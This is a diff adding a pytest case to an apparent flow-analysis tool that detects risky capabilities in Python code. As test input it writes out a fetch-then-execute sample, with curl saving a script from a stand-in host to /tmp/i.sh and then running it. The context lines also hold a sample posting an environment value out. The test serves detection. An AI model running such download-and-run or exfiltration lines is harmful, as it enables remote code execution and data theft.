@@ -348,3 +348,22 @@ def test_one_flow_per_source_and_sink_the_shortest() -> None:
               "v = u if x else t\n"
               "requests.post('https://x.example.net', data=v)\n")
     assert flows(source) == {("env.read(T)", 2, "net.connect(x.example.net)", 5, (2, 4))}
+
+
+def test_a_file_a_command_downloads_then_run(monkeypatch: pytest.MonkeyPatch) -> None:
+    fetch = Found(Capability.of("net.connect", "dl.example.net"), 1, "curl")
+    write = Found(Capability.of("fs.write", "/tmp/i.sh"), 1, "curl")
+
+    def judged(words: list[str], files: frozenset[str], file: str) -> ShellAnalysis:
+        if words[0] != "curl":
+            return ShellAnalysis((Found(Capability.of("proc.exec", "i.sh"), 1, "i.sh"),))
+        return ShellAnalysis((fetch, write), flows=(ShellFlow(fetch, write, (), words[-1]),))
+
+    monkeypatch.setattr(effects, "judge_argv", judged)
+    source = ("import subprocess\n"
+              "subprocess.run(['curl', '-o', '/tmp/i.sh', 'https://dl.example.net/i.sh'])\n"
+              "subprocess.run(['/tmp/i.sh'])\n")
+    assert flows(source) == {
+        ("net.connect(dl.example.net)", 2, "fs.write(/tmp/i.sh)", 2, ()),
+        ("net.connect(dl.example.net)", 2, "code.dynamic(download)", 3, (2,))}
+    assert {f.origin for f in extract(source).flows} == {"https://dl.example.net/i.sh"}
